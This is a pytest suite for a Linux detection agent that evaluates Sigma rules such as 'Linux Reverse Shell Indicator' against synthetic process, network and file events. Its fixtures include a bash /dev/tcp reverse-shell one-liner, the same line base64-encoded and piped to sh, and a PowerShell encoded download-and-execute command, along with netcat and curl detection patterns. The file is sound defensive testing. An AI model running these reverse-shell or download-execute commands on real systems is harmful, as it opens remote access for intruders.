"""agent.sigma: Sigma rules (as published) parsed by pySigma, field-mapped and evaluated on chainwatch events."""

from __future__ import annotations

import base64
import errno
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from agent.config import ConfigError, parse_config
from agent.detect.signals import Signal
from agent.events import FLAG_SEEDED, Accept, Connect, Event, Exec, FileWrite, Fork
from agent.lineage.table import ProcessTable
from agent.ruleset.yamlcheck import RuleErrors
from agent.sigma import SigmaDetector, SigmaRules, default_sigma_dir, load_sigma, read_sigma
from agent.sigma.load import family_of

CHAINWATCH = [sys.executable, "-m", "agent"]
SEED_ID = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"
S = 10**9


UNIT_ID = "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d"


def rule_yaml(
    detection: str,
    category: str = "process_creation",
    *,
    rule_id: str = UNIT_ID,
    level: str = "high",
    tags: str = "[attack.execution, attack.t1059.004]",
    extra: str = "",
) -> str:
    """A minimal Sigma rule for ``category`` with ``detection`` (YAML, indented under detection:)."""
    return (
        f"title: Unit rule {rule_id[:8]}\nid: {rule_id}\nstatus: test\nlevel: {level}\ntags: {tags}\n{extra}"
        f"logsource:\n    product: linux\n    category: {category}\ndetection:\n"
        + textwrap.indent(textwrap.dedent(detection).strip() + "\n", "    ")
    )


def load_one(tmp_path: Path, text: str, name: str = "rule.yml") -> SigmaRules:
    (tmp_path / name).write_text(text)
    return load_sigma([tmp_path])


class Lab:
    """A process table fed with hand-built events, and a Sigma detector over it."""

    def __init__(self, rules: SigmaRules) -> None:
        self.table = ProcessTable()
        self.detector = SigmaDetector(rules, self.table)
        self.t = 100 * S
        self.start: dict[int, int] = {}

    def hdr(self, pid: int, ppid: int = 1, uid: int = 0) -> dict[str, object]:
        self.t += 1000
        return {
            "ktime": self.t,
            "pid": pid,
            "tid": pid,
            "ppid": ppid,
            "start_time": self.start[pid],
            "uid": uid,
            "cgroup_id": 1,
            "comm": "x",
        }

    def feed(self, event: Event) -> list[Signal]:
        self.table.apply(event)
        return self.detector(event)

    def spawn(
        self, pid: int, parent: int | None, filename: str, args: tuple[str, ...], *, uid: int = 0, flags: int = 0
    ) -> list[Signal]:
        self.start[pid] = self.t + 1
        if parent is not None:
            self.feed(Fork(**self.hdr(pid, parent, uid), parent_start_time=self.start[parent]))  # type: ignore[arg-type]
        return self.feed(
            Exec(
                **self.hdr(pid, parent or 1, uid),
                filename=filename,
                args=args,  # type: ignore[arg-type]
                stdio=("chr", "chr", "chr"),
                flags=flags,
            )
        )

    def connect(self, pid: int, daddr: str, dport: int, *, result: int = 0, transport: str = "tcp") -> list[Signal]:
        family = "ipv6" if ":" in daddr else "ipv4"
        return self.feed(
            Connect(
                **self.hdr(pid),
                fd=3,
                family=family,
                transport=transport,  # type: ignore[arg-type]
                daddr=daddr,
                dport=dport,
                result=result,
            )
        )

    def accept(self, pid: int, saddr: str, sport: int, lport: int) -> list[Signal]:
        return self.feed(
            Accept(
                **self.hdr(pid),
                fd=4,
                family="ipv4",
                transport="tcp",  # type: ignore[arg-type]
                saddr=saddr,
                sport=sport,
                lport=lport,
            )
        )

    def write(self, pid: int, path: str, uid: int = 0) -> list[Signal]:
        return self.feed(
            FileWrite(
                **self.hdr(pid, uid=uid),
                path=path,
                operation="open",  # type: ignore[arg-type]
                flags_open=0o1101,
            )
        )


# ---------------------------------------------------------------------------------------------- the seed rule


def test_bundled_seed_rule_is_the_published_yaml() -> None:
    """rules/sigma holds SigmaHQ's 83dcd9f6 verbatim and loads as a critical c2 rule with its ATT&CK id."""
    text = (default_sigma_dir() / "net_connection_lnx_back_connect_shell_dev.yml").read_text()
    assert "Image|endswith: '/bin/bash'" in text and "- '127.0.0.1'" in text and "- '0.0.0.0'" in text
    assert "condition: selection and not filter" in text and "level: critical" in text
    rules = load_sigma([default_sigma_dir()])
    assert not rules.unsupported
    [entry] = rules.rules
    rule = entry.rule
    assert (rule.id, rule.name, rule.severity, rule.severity_score) == (
        SEED_ID,
        "Linux Reverse Shell Indicator",
        "critical",
        99,
    )
    assert rule.mitre == ("T1059.004",) and rule.ruleset == "sigma" and rule.family == "c2"
    assert rule.detector == "sigma_network_connection" and entry.category == "network_connection"


@pytest.mark.parametrize(
    ("image", "daddr", "fires"),
    [
        ("/usr/bin/bash", "198.51.100.2", True),
        ("/bin/bash", "10.0.0.1", True),  # private ranges are remote for the published rule
        ("/opt/tools/bin/bash", "203.0.113.9", True),
        ("/usr/bin/BASH", "203.0.113.9", True),  # Sigma strings compare case-insensitively
        ("/usr/bin/bash", "127.0.0.2", True),  # as published: only 127.0.0.1 and 0.0.0.0 are filtered
        ("/usr/bin/bash", "127.0.0.1", False),
        ("/usr/bin/bash", "0.0.0.0", False),
        ("/usr/bin/dash", "198.51.100.2", False),  # as published: bash only
        ("/usr/bin/rbash", "198.51.100.2", False),
        ("/usr/bin/zsh", "198.51.100.2", False),
    ],
)
def test_seed_rule_fires_exactly_as_published(image: str, daddr: str, fires: bool) -> None:
    """The seed rule matches an image ending in /bin/bash connecting anywhere but 127.0.0.1 and 0.0.0.0."""
    lab = Lab(load_sigma([default_sigma_dir()]))
    lab.spawn(10, None, "/usr/sbin/sshd", ("sshd",))
    lab.spawn(11, 10, image, ("bash", "-c", f"bash -i >& /dev/tcp/{daddr}/4444 0>&1"))
    signals = lab.connect(11, daddr, 4444)
    assert [s.rule.id for s in signals] == ([SEED_ID] if fires else [])
    if fires:
        assert (signals[0].daddr, signals[0].dport, signals[0].role) == (daddr, 4444, "c2")
        assert "Linux Reverse Shell Indicator" in signals[0].reason and daddr in signals[0].reason


def test_seed_rule_ignores_a_refused_connect() -> None:
    """A connect() that failed made no connection (Sysmon logs none): no signal; an in-progress one counts."""
    lab = Lab(load_sigma([default_sigma_dir()]))
    lab.spawn(11, None, "/usr/bin/bash", ("bash",))
    assert lab.connect(11, "198.51.100.2", 4444, result=-errno.ECONNREFUSED) == []
    assert len(lab.connect(11, "198.51.100.2", 4444, result=-errno.EINPROGRESS)) == 1


# ---------------------------------------------------------------------------------------------- modifiers

PROC = ("process_creation", "/usr/bin/python3", ("python3", "-c", "import os; os.system('id')"))


@pytest.mark.parametrize(
    ("detection", "fires"),
    [
        ("sel: {Image: /usr/bin/python3}\ncondition: sel", True),
        ("sel: {Image: /usr/bin/PYTHON3}\ncondition: sel", True),
        ("sel: {Image: /usr/bin/python}\ncondition: sel", False),
        ("sel: {Image: '/usr/*/pyth?n3'}\ncondition: sel", True),
        ("sel: {Image: '/usr/*/pyth?n'}\ncondition: sel", False),
        ("sel: {CommandLine|contains: OS.SYSTEM}\ncondition: sel", True),
        ("sel: {CommandLine|cased|contains: OS.SYSTEM}\ncondition: sel", False),
        ("sel: {CommandLine|startswith: 'python3 -c'}\ncondition: sel", True),
        ("sel: {CommandLine|startswith: '-c'}\ncondition: sel", False),
        ("sel: {CommandLine|endswith: \"('id')\"}\ncondition: sel", True),
        ("sel: {CommandLine|contains|all: [import, system]}\ncondition: sel", True),
        ("sel: {CommandLine|contains|all: [import, socket]}\ncondition: sel", False),
        ("sel: {CommandLine|contains: [socket, system]}\ncondition: sel", True),
        ("sel: {CommandLine|contains: [zzz, OS.SYSTEM]}\ncondition: sel", True),  # a value list is one alternation
        ("sel: {CommandLine|contains: [zzz, yyy]}\ncondition: sel", False),
        ("sel: {Image: [/usr/bin/perl, '/usr/*/pyth?n3', /bin/sh]}\ncondition: sel", True),
        ("sel: {Image: [/usr/bin/perl, '/usr/*/pyth?n', /bin/sh]}\ncondition: sel", False),
        ("sel: {CommandLine|startswith: [perl, PYTHON3]}\ncondition: sel", True),
        ("sel: {CommandLine|endswith: [x, y]}\ncondition: sel", False),
        ("sel: {Image: [/usr/bin/perl, /USR/BIN/PYTHON3]}\ncondition: sel", True),
        ("sel: {Image|cased: [/usr/bin/perl, /USR/BIN/PYTHON3]}\ncondition: sel", False),
        ("sel: {CommandLine|re: 'os\\.sys\\w+'}\ncondition: sel", True),  # re searches, unanchored
        ("sel: {CommandLine|re: 'OS\\.SYSTEM'}\ncondition: sel", False),  # re is case-sensitive
        ("sel: {CommandLine|re|i: 'OS\\.SYSTEM'}\ncondition: sel", True),
        ("sel: {CommandLine|re|startswith: 'import'}\ncondition: sel", False),  # anchored by startswith
        ("sel: {CommandLine|re|startswith: 'python[0-9]'}\ncondition: sel", True),
        ("sel: {CommandLine|re|endswith: 'id..'}\ncondition: sel", True),
        ("sel: {ProcessId: 20}\ncondition: sel", True),
        ("sel: {ProcessId: '20'}\ncondition: sel", True),
        ("sel: {ProcessId|gt: 19}\ncondition: sel", True),
        ("sel: {ProcessId|lt: 20}\ncondition: sel", False),
        ("sel: {ProcessId|lte: 20}\ncondition: sel", True),
        ("sel: {ProcessId|gte: 21}\ncondition: sel", False),
        ("sel: {ParentProcessId: 10}\ncondition: sel", True),
        ("sel: {ParentImage|endswith: /bash}\ncondition: sel", True),
        ("sel: {ParentCommandLine|contains: build.sh}\ncondition: sel", True),
        ("sel: {ParentImage|exists: true}\ncondition: sel", True),
        ("sel: {ParentImage|exists: false}\ncondition: sel", False),
        ("sel: {ParentImage: null}\ncondition: sel", False),
        ("sel: {User: root}\ncondition: sel", True),
        ("sel: {User: nobody}\ncondition: sel", False),
        ("sel: {CommandLine|fieldref: Image}\ncondition: sel", False),
        ("sel: {Image|fieldref|endswith: Image}\ncondition: sel", True),
        ("sel: {Image|neq: /usr/bin/python3}\ncondition: sel", False),
        (
            "sel: {Image|endswith: /python3}\nfilter: {ParentImage|endswith: /bash}\ncondition: sel and not filter",
            False,
        ),
        ("sel1: {Image|endswith: /perl}\nsel2: {Image|endswith: /python3}\ncondition: 1 of sel*", True),
        ("sel1: {Image|endswith: /perl}\nsel2: {Image|endswith: /python3}\ncondition: all of sel*", False),
        ("keywords: [os.system]\ncondition: keywords", True),
        ("keywords: [build.sh]\ncondition: keywords", True),  # keywords search the parent's command line too
        ("keywords: [nothing-like-it]\ncondition: keywords", False),
        ("sel: {CommandLine|windash|contains: ' /c '}\ncondition: sel", True),  # -c expands to /c and back
        ("sel: {CommandLine|base64|contains: secret}\ncondition: sel", False),
    ],
)
def test_modifiers_on_process_creation(detection: str, fires: bool, tmp_path: Path) -> None:
    """Each modifier pySigma supports on these fields evaluates as the Sigma specification says."""
    lab = Lab(load_one(tmp_path, rule_yaml(detection)))
    lab.spawn(10, None, "/usr/bin/bash", ("bash", "build.sh"))
    signals = lab.spawn(20, 10, PROC[1], PROC[2])
    assert bool(signals) is fires


@pytest.mark.parametrize("offset", [0, 1, 2])
def test_base64offset_finds_an_encoded_payload_at_any_offset(offset: int, tmp_path: Path) -> None:
    """base64offset|contains matches the payload base64-encoded at any of the three byte alignments."""
    lab = Lab(load_one(tmp_path, rule_yaml("sel: {CommandLine|base64offset|contains: 'bash -i'}\ncondition: sel")))
    blob = base64.b64encode(b"x" * offset + b"exec bash -i >& /dev/tcp/198.51.100.2/4444 0>&1").decode()
    lab.spawn(10, None, "/usr/bin/bash", ("bash",))
    assert lab.spawn(20, 10, "/usr/bin/sh", ("sh", "-c", f"echo {blob} | base64 -d | sh"))
    assert not lab.spawn(21, 10, "/usr/bin/sh", ("sh", "-c", "echo " + base64.b64encode(b"exec ls -l").decode()))


def test_wide_base64_matches_a_pwsh_encoded_command(tmp_path: Path) -> None:
    """wide|base64offset|contains (UTF-16LE then base64, as pwsh -EncodedCommand takes it) matches on Linux too."""
    lab = Lab(
        load_one(
            tmp_path, rule_yaml("sel: {CommandLine|wide|base64offset|contains: 'Invoke-WebRequest'}\ncondition: sel")
        )
    )
    payload = base64.b64encode("iex (Invoke-WebRequest http://198.51.100.2/a)".encode("utf-16le")).decode()
    lab.spawn(10, None, "/usr/bin/bash", ("bash",))
    assert lab.spawn(20, 10, "/usr/bin/pwsh", ("pwsh", "-EncodedCommand", payload))
    assert not lab.spawn(
        21, 10, "/usr/bin/pwsh", ("pwsh", "-EncodedCommand", base64.b64encode("Get-Date".encode("utf-16le")).decode())
    )


def test_seeded_processes_are_not_process_creations(tmp_path: Path) -> None:
    """The /proc snapshot at startup is table state, not an exec that happened: no process_creation match."""
    lab = Lab(load_one(tmp_path, rule_yaml("sel: {Image|endswith: /python3}\ncondition: sel")))
    assert lab.spawn(20, None, "/usr/bin/python3", ("python3",), flags=FLAG_SEEDED) == []
    assert lab.spawn(21, None, "/usr/bin/python3", ("python3",))


@pytest.mark.parametrize(
    ("detection", "daddr", "dport", "fires"),
    [
        ("sel: {DestinationIp|cidr: 198.51.100.0/24}\ncondition: sel", "198.51.100.7", 443, True),
        ("sel: {DestinationIp|cidr: 198.51.100.0/24}\ncondition: sel", "203.0.113.7", 443, False),
        ("sel: {DestinationIp|cidr: '2001:db8::/32'}\ncondition: sel", "2001:db8::5", 443, True),
        ("sel: {DestinationIp|cidr: 198.51.100.0/24}\ncondition: sel", "::ffff:198.51.100.7", 443, True),
        ("sel: {DestinationIsIpv6: 'true'}\ncondition: sel", "2001:db8::5", 443, True),
        ("sel: {DestinationIsIpv6: 'true'}\ncondition: sel", "198.51.100.7", 443, False),
        ("sel: {DestinationPort: 4444}\ncondition: sel", "198.51.100.7", 4444, True),
        ("sel: {DestinationPort: [22, 80]}\ncondition: sel", "198.51.100.7", 4444, False),
        ("sel: {DestinationPort|lt: 1024}\ncondition: sel", "198.51.100.7", 443, True),
        ("sel: {Initiated: 'true', Protocol: tcp}\ncondition: sel", "198.51.100.7", 443, True),
        ("sel: {Initiated: true}\ncondition: sel", "198.51.100.7", 443, True),
        ("sel: {Initiated: 'false'}\ncondition: sel", "198.51.100.7", 443, False),
        ("sel: {SourceIp|exists: true}\ncondition: sel", "198.51.100.7", 443, False),
        ("sel: {CommandLine|contains: http.server}\ncondition: sel", "198.51.100.7", 443, True),
    ],
)
def test_network_connection_fields(detection: str, daddr: str, dport: int, fires: bool, tmp_path: Path) -> None:
    """network_connection rules see the outbound connect: destination, port, Initiated, Protocol, the process."""
    lab = Lab(load_one(tmp_path, rule_yaml(detection, "network_connection")))
    lab.spawn(20, None, "/usr/bin/python3", ("python3", "-m", "http.server"))
    assert bool(lab.connect(20, daddr, dport)) is fires


def test_accepted_connection_is_initiated_false(tmp_path: Path) -> None:
    """An accepted connection is a network_connection with Initiated false, the peer as SourceIp/SourcePort."""
    lab = Lab(
        load_one(
            tmp_path,
            rule_yaml(
                "sel: {Initiated: 'false', DestinationPort: 31337, SourceIp|cidr: 203.0.113.0/24}\ncondition: sel",
                "network_connection",
            ),
        )
    )
    lab.spawn(20, None, "/usr/bin/ncat", ("ncat", "-l", "31337"))
    [signal] = lab.accept(20, "203.0.113.5", 50000, 31337)
    assert signal.daddr == ""  # the alert's destination is the remote end of an outbound connection only
    assert "accepted a connection from 203.0.113.5:50000 on port 31337" in signal.reason
    assert lab.accept(20, "198.51.100.5", 50000, 31337) == []
    assert lab.accept(20, "203.0.113.5", 50000, 8080) == []


@pytest.mark.parametrize("category", ["file_event", "file_create"])
def test_file_event_target_filename(category: str, tmp_path: Path) -> None:
    """file_event (and file_create) rules see the path written, the writer's image and its user."""
    lab = Lab(
        load_one(
            tmp_path,
            rule_yaml(
                "sel: {TargetFilename|startswith: /etc/cron.d/, User: root}\n"
                "filter: {Image|endswith: /dpkg}\ncondition: sel and not filter",
                category,
                tags="[attack.persistence, attack.t1053.003]",
            ),
        )
    )
    lab.spawn(20, None, "/usr/bin/bash", ("bash",))
    lab.spawn(21, None, "/usr/bin/dpkg", ("dpkg", "-i", "x.deb"))
    lab.spawn(22, None, "/usr/bin/bash", ("bash",), uid=65534)
    [signal] = lab.write(20, "/etc/cron.d/evil")
    assert (signal.path, signal.role, signal.rule.detector) == ("/etc/cron.d/evil", "persistence", "sigma_file_event")
    assert lab.write(20, "/etc/systemd/system/x.service") == []
    assert lab.write(21, "/etc/cron.d/pkg") == []  # the filter
    assert lab.write(22, "/etc/cron.d/evil", uid=65534) == []  # not root


def test_a_rule_only_sees_its_own_logsource(tmp_path: Path) -> None:
    """A process_creation rule never runs on connects or file writes, and the other way round."""
    lab = Lab(load_one(tmp_path, rule_yaml("keywords: [python3]\ncondition: keywords")))
    lab.spawn(20, None, "/usr/bin/python3", ("python3",))
    assert lab.connect(20, "198.51.100.2", 80) == [] and lab.write(20, "/etc/cron.d/x") == []


# ---------------------------------------------------------------------------------------------- mapping


@pytest.mark.parametrize(
    ("tactics", "category", "family"),
    [
        (["execution"], "network_connection", "c2"),
        (["command-and-control"], "process_creation", "c2"),
        (["command_and_control"], "file_event", "c2"),
        (["persistence", "privilege-escalation"], "file_event", "persistence"),
        (["defense-evasion"], "process_creation", "evasion"),
        (["defense_evasion"], "network_connection", "evasion"),
        (["execution", "discovery"], "process_creation", "other"),
        ([], "file_event", "other"),
    ],
)
def test_family_from_tactics_then_logsource(tactics: list[str], category: str, family: str) -> None:
    """c2/persistence/evasion come from ATT&CK tactic tags; an untagged network rule is c2, the rest other."""
    assert family_of(tactics, category) == family


@pytest.mark.parametrize(
    ("level", "severity", "score"),
    [
        ("informational", "low", 21),
        ("low", "low", 21),
        ("medium", "medium", 47),
        ("high", "high", 73),
        ("critical", "critical", 99),
    ],
)
def test_level_to_severity(level: str, severity: str, score: int, tmp_path: Path) -> None:
    """Sigma levels become chainwatch severities (Elastic's numbers)."""
    [entry] = load_one(tmp_path, rule_yaml("keywords: [x]\ncondition: keywords", level=level)).rules
    assert (entry.rule.severity, entry.rule.severity_score) == (severity, score)


# ---------------------------------------------------------------------------------------------- reporting

UNSUPPORTED = {
    "auditd.yml": (
        rule_yaml("sel: {type: EXECVE}\ncondition: sel").replace(
            "    category: process_creation\n", "    service: auditd\n"
        ),
        "logsource product=linux, service=auditd",
    ),
    "windows.yml": (
        rule_yaml("sel: {Image|endswith: '\\cmd.exe'}\ncondition: sel").replace("linux", "windows"),
        "logsource product=windows, category=process_creation",
    ),
    "cwd.yml": (
        rule_yaml("sel: {CurrentDirectory|startswith: /tmp/}\ncondition: sel"),
        "field 'CurrentDirectory' is not supported: the exec event carries no working directory",
    ),
    "hostname.yml": (
        rule_yaml("sel: {DestinationHostname|endswith: .ngrok.io}\ncondition: sel", "network_connection"),
        "field 'DestinationHostname' is not supported",
    ),
    "target.yml": (
        rule_yaml("sel: {TargetFilename: /etc/passwd}\ncondition: sel"),
        "field 'TargetFilename' is not supported: chainwatch's process_creation events have no such field",
    ),
    "expand.yml": (rule_yaml("sel: {CommandLine|expand: '%admin_tools%'}\ncondition: sel"), "the 'expand' modifier"),
    "minute.yml": (rule_yaml("sel: {ProcessId|minute: 5}\ncondition: sel"), "the timestamp modifier 'minute'"),
    "correlation.yml": (
        rule_yaml("keywords: [x]\ncondition: keywords", extra="name: base_rule\n")
        + "---\ntitle: Many\nid: 99999999-0000-4000-8000-000000000000\nstatus: test\ncorrelation:\n"
        "    type: event_count\n    rules: [base_rule]\n    group-by: [User]\n    timespan: 5m\n"
        "    condition: {gte: 10}\n",
        "only feeds a correlation (generate: false)",
    ),
    "deprecated.yml": (
        rule_yaml("keywords: [x]\ncondition: keywords").replace("status: test", "status: deprecated"),
        "status deprecated: not loaded",
    ),
}


def test_unsupported_rules_are_reported_with_file_line_and_reason(tmp_path: Path) -> None:
    """Valid rules chainwatch cannot evaluate are listed, each with its file, line and why, never dropped."""
    ids = iter(f"{i:08d}-0000-4000-8000-000000000000" for i in range(100))
    for name, (text, _) in UNSUPPORTED.items():
        (tmp_path / name).write_text(text.replace("9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d", next(ids)))
    (tmp_path / "ok.yml").write_text(rule_yaml("keywords: [x]\ncondition: keywords"))
    rules, problems = read_sigma([tmp_path])
    assert problems == []
    assert [e.rule.source_file for e in rules.rules] == [str(tmp_path / "ok.yml")]
    reported = {Path(p.file).name: p for p in rules.unsupported if "CorrelationRule documents" not in p.reason}
    assert set(reported) == set(UNSUPPORTED)
    assert [(Path(p.file).name, p.line) for p in rules.unsupported if "CorrelationRule documents" in p.reason] == [
        ("correlation.yml", 17)
    ]
    for name, (_, reason) in UNSUPPORTED.items():
        assert reason in reported[name].reason, reported[name]
    assert reported["cwd.yml"].line == 10  # the line naming the field
    assert reported["auditd.yml"].line == 6  # logsource:


def test_invalid_rules_are_errors_with_file_and_reason(tmp_path: Path) -> None:
    """Files that are not valid Sigma rules stop loading, each named with why (like a bad native rule)."""
    (tmp_path / "modifier.yml").write_text(rule_yaml("sel: {Image|bogus: x}\ncondition: sel"))
    (tmp_path / "yaml.yml").write_text("title: [unclosed\n")
    (tmp_path / "noid.yml").write_text(
        rule_yaml("keywords: [x]\ncondition: keywords").replace("id: 9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d\n", "")
    )
    (tmp_path / "undefined.yml").write_text(
        rule_yaml("sel: {Image: x}\ncondition: other", rule_id="33333333-2222-4333-8444-555555555555")
    )
    (tmp_path / "first.yml").write_text(
        rule_yaml("keywords: [x]\ncondition: keywords", rule_id="11111111-2222-4333-8444-555555555555")
    )
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "dup.yml").write_text(
        rule_yaml("keywords: [x]\ncondition: keywords", rule_id="11111111-2222-4333-8444-555555555555")
    )
    with pytest.raises(RuleErrors) as caught:
        load_sigma([tmp_path])
    by_file = {Path(p.file).name: p.reason for p in caught.value.problems}
    assert "Unknown modifier 'bogus'" in by_file["modifier.yml"]
    assert "not a Sigma rule" in by_file["yaml.yml"]
    assert "needs an id" in by_file["noid.yml"]
    assert "'other' not defined" in by_file["undefined.yml"]
    assert "duplicate Sigma rule id 11111111-2222-4333-8444-555555555555" in by_file["dup.yml"]


def test_a_missing_directory_is_an_error(tmp_path: Path) -> None:
    """A configured Sigma directory that does not exist is reported, not skipped."""
    with pytest.raises(RuleErrors, match="not a directory of Sigma rules"):
        load_sigma([tmp_path / "missing"])


def test_rules_check_lists_unsupported_rules_and_exits_0(tmp_path: Path) -> None:
    """`rules check --sigma DIR` prints each rule it cannot evaluate as file:line with the reason; valid: exit 0."""
    (tmp_path / "cwd.yml").write_text(UNSUPPORTED["cwd.yml"][0])
    (tmp_path / "ok.yml").write_text(
        rule_yaml("keywords: [x]\ncondition: keywords", rule_id="22222222-2222-4333-8444-555555555555")
    )
    proc = subprocess.run(
        [*CHAINWATCH, "rules", "check", "--sigma", str(tmp_path)], capture_output=True, text=True, timeout=60
    )
    assert proc.returncode == 0, proc.stderr
    assert (
        f"{tmp_path / 'cwd.yml'}:10: cannot evaluate: field 'CurrentDirectory' is not supported: the exec "
        "event carries no working directory"
    ) in proc.stdout
    assert f"1 Sigma rules OK, 1 not evaluable ({tmp_path})" in proc.stdout


def test_rules_check_fails_on_an_invalid_sigma_rule(tmp_path: Path) -> None:
    """An invalid Sigma rule makes `rules check` exit 1 naming the file and the reason on stderr."""
    (tmp_path / "bad.yml").write_text(rule_yaml("sel: {Image|bogus: x}\ncondition: sel"))
    proc = subprocess.run(
        [*CHAINWATCH, "rules", "check", "--sigma", str(tmp_path)], capture_output=True, text=True, timeout=60
    )
    assert proc.returncode == 1
    assert f"{tmp_path / 'bad.yml'}:1: invalid Sigma rule: Unknown modifier 'bogus'" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_rules_check_checks_the_bundled_sigma_dir_by_default() -> None:
    """Plain `rules check` also validates rules/sigma (the seed rule)."""
    proc = subprocess.run([*CHAINWATCH, "rules", "check"], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert f"1 Sigma rules OK, 0 not evaluable ({default_sigma_dir()})" in proc.stdout


def test_config_sigma_dirs() -> None:
    """detection.sigma_dirs is a list of paths, empty by default; an empty entry is a config error."""
    assert parse_config("").detection.sigma_dirs == []
    assert parse_config('[detection]\nsigma_dirs = ["/opt/sigma/rules/linux"]\n').detection.sigma_dirs == [
        "/opt/sigma/rules/linux"
    ]
    with pytest.raises(ConfigError, match="sigma_dirs"):
        parse_config('[detection]\nsigma_dirs = [""]\n')
    with pytest.raises(ConfigError, match="sigma_dirs"):
        parse_config('[detection]\nsigma_dirs = "/opt/sigma"\n')


def test_regular_expressions_are_re2(tmp_path: Path) -> None:
    """`re` values use RE2 (linear time on any argv): a lookahead, which RE2 lacks, makes the rule invalid."""
    bad, good = tmp_path / "bad", tmp_path / "good"
    bad.mkdir()
    (bad / "look.yml").write_text(rule_yaml("sel: {CommandLine|re: 'a(?=b)'}\ncondition: sel"))
    rules, problems = read_sigma([bad])
    assert rules.rules == () and len(problems) == 1
    assert problems[0].file == str(bad / "look.yml") and "Regular expression 'a(?=b)' is invalid" in problems[0].reason
    good.mkdir()
    lab = Lab(load_one(good, rule_yaml("sel: {CommandLine|re: '(a+)+$'}\ncondition: sel")))
    assert lab.spawn(20, None, "/usr/bin/python3", ("python3", "a" * 3000 + "!")) == []  # no backtracking blow-up
    assert lab.spawn(21, None, "/usr/bin/python3", ("python3", "aaa")) != []


def test_engine_correlates_sigma_signals_and_counts_them(tmp_path: Path) -> None:
    """Detection with Sigma rules emits their alerts and reports sigma_matches in its stats."""
    from agent.alerts import Host
    from agent.assemble import assemble
    from agent.ruleset.load import load_rules

    alerts: list[dict[str, object]] = []
    lab = Lab(load_one(tmp_path, rule_yaml("sel: {Image|endswith: /python3}\ncondition: sel", level="medium")))
    pipeline = assemble(
        load_rules(), lab.table, [alerts.append], host=Host("h", "hid"), boot_offset_ns=0, sigma=load_sigma([tmp_path])
    )
    engine = pipeline.detection
    event = Exec(
        ktime=10,
        pid=20,
        tid=20,
        ppid=1,
        start_time=5,
        uid=0,
        cgroup_id=1,
        comm="python3",
        filename="/usr/bin/python3",
        args=("python3",),
    )
    pipeline.feed(event)
    assert len(alerts) == 1 and alerts[0]["rule"] == {"id": UNIT_ID, "name": "Unit rule 9a8b7c6d", "ruleset": "sigma"}
    assert engine.stats()["sigma_matches"] == 1 and engine.stats()["sigma_rule_errors"] == 0


def test_a_failing_matcher_is_counted_and_does_not_hide_other_rules(tmp_path: Path) -> None:
    """A matcher that raises is logged and counted; the other rules still run on the event."""
    from dataclasses import replace

    rules = load_one(tmp_path, rule_yaml("sel: {Image|endswith: /python3}\ncondition: sel"))
    [good] = rules.rules

    def broken(_: object) -> bool:
        raise RuntimeError("bug")

    bad = replace(good, rule=replace(good.rule, id="00000000-0000-4000-8000-000000000001"), matcher=broken)
    lab = Lab(SigmaRules((bad, good)))
    assert [s.rule.id for s in lab.spawn(20, None, "/usr/bin/python3", ("python3",))] == [UNIT_ID]
    assert lab.detector.errors == 1


@pytest.mark.parametrize(
    ("detection", "gated"),
    [
        ("sel: {Image|endswith: [/curl, /wget]}\ncondition: sel", True),
        ("sel: {Image: /usr/bin/nc, CommandLine|contains: ' -e '}\ncondition: sel", True),
        ("sel: {Image|endswith: /nc}\nsel2: {CommandLine|contains: x}\ncondition: all of sel*", True),
        ("sel: {Image|contains: python}\ncondition: sel", False),
        ("sel: {Image|cased|endswith: /nc}\ncondition: sel", False),
        ("sel: {Image|endswith: /nc}\nsel2: {CommandLine|contains: x}\ncondition: 1 of sel*", False),
        ("sel: {Image|endswith: /nc}\ncondition: not sel", False),
        ("keywords: [nc]\ncondition: keywords", False),
    ],
)
def test_executable_gate_only_where_it_is_a_necessary_condition(detection: str, gated: bool, tmp_path: Path) -> None:
    """A rule gets an executable gate only when an Image equals/endswith list is one of its top-level ANDs."""
    [entry] = load_one(tmp_path, rule_yaml(detection)).rules
    assert (entry.gate is not None) is gated


def test_gated_evaluation_equals_evaluating_every_rule(tmp_path: Path) -> None:
    """The gate index never changes a result: the same signals as running every rule's matcher."""
    from agent.sigma.fields import EventFields

    texts = [
        rule_yaml("sel: {Image|endswith: [/curl, /wget]}\ncondition: sel"),
        rule_yaml("sel: {Image: /usr/bin/nc, CommandLine|contains: ' -e '}\ncondition: sel"),
        rule_yaml("sel: {Image|endswith: [/bin/bash, sh]}\nf: {CommandLine|contains: build}\ncondition: sel and not f"),
        rule_yaml("sel: {Image|contains: python}\ncondition: sel"),
        rule_yaml("keywords: ['-e']\ncondition: keywords"),
    ]
    for i, text in enumerate(texts):
        (tmp_path / f"r{i}.yml").write_text(text.replace(UNIT_ID, f"{i:08d}-0000-4000-8000-000000000000"))
    rules = load_sigma([tmp_path])
    assert sum(1 for e in rules.rules if e.gate) == 3
    lab = Lab(rules)
    cases = [
        ("/usr/bin/curl", ("curl", "x")),
        ("/usr/bin/CURL", ("curl",)),
        ("/usr/bin/nc", ("nc", "-e", "sh")),
        ("/bin/nc", ("nc", "-e", "sh")),
        ("/usr/bin/bash", ("bash", "-c", "x")),
        ("/usr/bin/dash", ("dash",)),
        ("/usr/bin/bash", ("bash", "build.sh")),
        ("/usr/bin/python3", ("python3", "-e")),
        ("/x", ("x",)),
        ("", ()),
    ]
    for pid, (exe, args) in enumerate(cases, start=10):
        got = [s.rule.id for s in lab.spawn(pid, None, exe, args)]
        proc = lab.table.by_pid(pid)
        assert proc is not None
        fields = EventFields(
            Exec(
                ktime=0,
                pid=pid,
                tid=pid,
                ppid=1,
                start_time=lab.start[pid],
                uid=0,
                cgroup_id=1,
                comm="x",
                filename=exe,
                args=args,
            ),
            proc,
            lab.table,
        )
        assert got == [e.rule.id for e in rules.rules if e.matcher(fields)], exe
